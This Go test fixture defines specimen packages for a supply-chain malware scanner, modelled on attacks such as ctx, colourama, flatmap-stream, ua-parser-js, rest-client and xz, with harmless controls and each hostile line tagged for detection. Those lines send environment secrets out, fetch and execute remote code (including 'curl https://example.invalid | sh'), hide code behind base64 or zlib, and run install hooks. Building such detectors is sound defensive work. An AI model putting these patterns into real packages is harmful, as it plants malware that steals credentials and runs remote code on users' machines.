package integration

// specimen is a package with an attack in it. A line says itself what is to be found there, as "FOUND rule".
type specimen struct {
	archive, like string
	content       files
	besides       []string // "rule file:line" of what cannot say it itself
}

func asWheel(name, version string, content files) files {
	content[name+"-"+version+".dist-info/METADATA"] = "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"
	content[name+"-"+version+".dist-info/WHEEL"] = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
	return content
}

const object = "\x7fELF                                                                                "

var specimens = []specimen{
	{"harmless-1.0-py3-none-any.whl", "nothing at all", asWheel("harmless", "1.0", files{"harmless.py": `import os, re, socket, subprocess, urllib.request
compiled = re.compile("a+")
home = os.environ.get("HOME")
class Client:
    def get(self):
        return urllib.request.urlopen("https://example.invalid")
    def run(self):
        return subprocess.run(["true"], env=dict(os.environ))
def evaluate(text):
    return eval(text)
if __name__ == "__main__":
    subprocess.run(["true"])
`}), nil},
	{"ctx-0.2.6-py3-none-any.whl", "ctx, 2022: the environment sent away when an object is made", asWheel("ctx", "0.2.6", files{"ctx.py": `import base64, requests
from os import environ
class Ctx(dict):
    def __init__(self):
        self.sendRequest()
    def sendRequest(self):
        string = ""
        for _, value in environ.items():  # FOUND secrets
            string += value + " "
        requests.get("https://example.invalid/" + base64.b64encode(string.encode()).decode())
`}), nil},
	{"colourama-0.1.6.tar.gz", "colourama, 2017: a name, and code at installation", files{"PKG-INFO": "Name: colourama\nVersion: 0.1.6\n", "setup.py": `from setuptools import setup
from setuptools.command.install import install
import os
class Innocuous(install):
    def run(self):
        exec("aW1wb3J0IG9z".decode("base64"))  # FOUND hidden-code
        install.run(self)
        os.system("cscript x.vbs")  # FOUND process
setup(name="colourama", cmdclass={"install": Innocuous})  # FOUND install-hook
`}, []string{"name :0"}},
	{"stealer-1.0-py3-none-any.whl", "the loaders of W4SP and its kin, 2022", asWheel("stealer", "1.0", files{"stealer/__init__.py": `from cryptography.fernet import Fernet
from urllib.request import urlopen as _u
_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
exec((_)(b'=abc'))  # FOUND hidden-code
exec(Fernet(b'k').decrypt(b'gAAAA'))  # FOUND hidden-code
exec(_u('http://x.invalid/y').read())  # FOUND hidden-code network
p = __import__('subprocess')
p.Popen(['id'])  # FOUND process
getattr(__builtins__, 'ex' + 'ec')('1')  # FOUND hidden-code
import os;` + "                                                                                                    " + `os.getcwd()  # FOUND hidden-code
`, "stealer/helper.so": object, "stealer.pth": "import stealer  # FOUND install-hook\n"}), []string{"stray-binary stealer/helper.so:0"}},

	{"event-stream-3.3.6.tgz", "nothing at all", files{"package.json": `{"name": "event-stream", "version": "3.3.6", "scripts": {"test": "tap", "prepare": "tsc"}}`, "index.js": `
const { exec } = require('child_process');
const https = require('https');
exports.run = () => exec('true', { env: { ...process.env } });
exports.get = () => https.get('https://example.invalid');
/a/.exec('a');
if (require.main === module) exports.run();
`}, nil},
	{"flatmap-stream-0.1.1.tgz", "flatmap-stream, 2018: a module of which even the name is hidden", files{"package.json": `{"name": "flatmap-stream", "version": "0.1.1"}`,
		"index.min.js": `var Stream=require("stream").Stream;module.exports=function(e,n){};
!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;var f=new module.constructor;f[e(n[7])](n,"")}catch(r){}}(); // FOUND hidden-code
`}, nil},
	{"ua-parser-js-0.7.29.tgz", "ua-parser-js, 2021: a script before the installation", files{"package.json": "{\n  \"name\": \"ua-parser-js\",\n  \"version\": \"0.7.29\",\n  \"scripts\": {\n" +
		"    \"preinstall\": \"node preinstall.js\"\n  }\n}", "preinstall.js": `const { exec } = require("child_process");
function terminalLinux() {
  exec("/bin/bash preinstall.sh"); // FOUND process
}
if (process.platform === "linux") terminalLinux();
`}, []string{"install-hook package.json:5"}},
	{"crossenv-6.1.1.tgz", "crossenv, 2017: a name, and the environment sent away", files{"package.json": `{"name": "crossenv", "version": "6.1.1"}`, "index.js": `import http from 'node:http';
const env = JSON.stringify(process.env); // FOUND secrets
const request = http.request({ host: 'example.invalid', method: 'POST' }); // FOUND network
request.write(env);
new Function(atob('YWxlcnQoMSk='))(); // FOUND hidden-code
eval(await (await fetch('https://example.invalid')).text()); // FOUND hidden-code network
`, "lib/payload.node": object}, []string{"name :0", "stray-binary lib/payload.node:0"}},

	{"harmless-1.0.gem", "nothing at all", files{"metadata": "--- !ruby/object:Gem::Specification\nname: harmless\nversion: !ruby/object:Gem::Version\n  version: 1.0\nplatform: ruby\nextensions: []\n",
		"lib/harmless.rb": "require 'net/http'\nclass Harmless\n  def get = Net::HTTP.get(URI('https://example.invalid'))\n  def run = system('true')\n  class_eval <<~RUBY\n    def x = 1\n  RUBY\nend\nsystem('true') if __FILE__ == $0\n"}, nil},
	{"rest-client-1.6.13.gem", "rest-client 1.6.13, 2019: code fetched and run", files{
		"metadata": "--- !ruby/object:Gem::Specification\nname: rest-client\nversion: !ruby/object:Gem::Version\n  version: 1.6.13\nplatform: ruby\nextensions: []\n",
		"lib/restclient/request.rb": `module RestClient; end
def _!;
  begin;yield;rescue Exception;end
end
_!{Thread.new{loop{_!{sleep rand*3333;eval(Net::HTTP.get(URI('https://example.invalid/raw')))}}}}if Rails.env[0]=="p" # FOUND hidden-code network
`, "lib/restclient/more.rb": `class Object
  eval(Base64.decode64("cHV0cyAx")) # FOUND hidden-code
  instance_eval(["70757473"].pack("H*")) # FOUND hidden-code
  ` + "`id`" + ` # FOUND process
  def leak
    Net::HTTP.post(URI("https://example.invalid"), ENV.to_h.to_s) # FOUND secrets
  end
end
`}, nil},
	{"extension-1.0.gem", "an extension that downloads when it is built", files{
		"metadata":       "--- !ruby/object:Gem::Specification\nname: extension\nversion: !ruby/object:Gem::Version\n  version: 1.0\nplatform: ruby\nextensions:\n- ext/extconf.rb\nfiles: []\n",
		"ext/extconf.rb": "require 'mkmf'\nsystem('curl https://example.invalid | sh') # FOUND process\ncreate_makefile('x')\n"}, []string{"install-hook ext/extconf.rb:0"}},

	{"libxz_5.6.1_all.deb", "xz 5.6.1, 2024: code hidden in a file of the tests", files{"DEBIAN/control": "Package: libxz\nVersion: 5.6.1\nArchitecture: all\nMaintainer: x <x@example.invalid>\nDescription: x\n",
		"DEBIAN/postinst": `#!/bin/sh
set -e
# Automatically added by dh_makeshlibs/13
if [ "$1" = configure ]; then ldconfig; fi
# End automatically added section
case "$1" in # FOUND install-hook
  configure)
    sed 1d /usr/share/xz/bad-3-corrupt_lzma2.xz | tr "\t \-_" " \t_\-" | xz -d 2>/dev/null | /bin/bash # FOUND hidden-code
    curl -s https://example.invalid >/dev/null # FOUND network
  ;;
esac
`, "usr/lib/x86_64-linux-gnu/liblzma.so.5": object}, []string{"stray-binary usr/lib/x86_64-linux-gnu/liblzma.so.5:0"}},
	{"quiet_1.0_all.deb", "nothing at all", files{"DEBIAN/control": "Package: quiet\nVersion: 1.0\nArchitecture: all\nMaintainer: x <x@example.invalid>\nDescription: x\n",
		"DEBIAN/postinst": "#!/bin/sh\nset -e\n# Automatically added by dh_python3\npy3compile -p quiet\n# End automatically added section\nexit 0\n", "usr/bin/quiet": "#!/bin/sh\nzcat x.gz | grep y\n"}, nil},
}
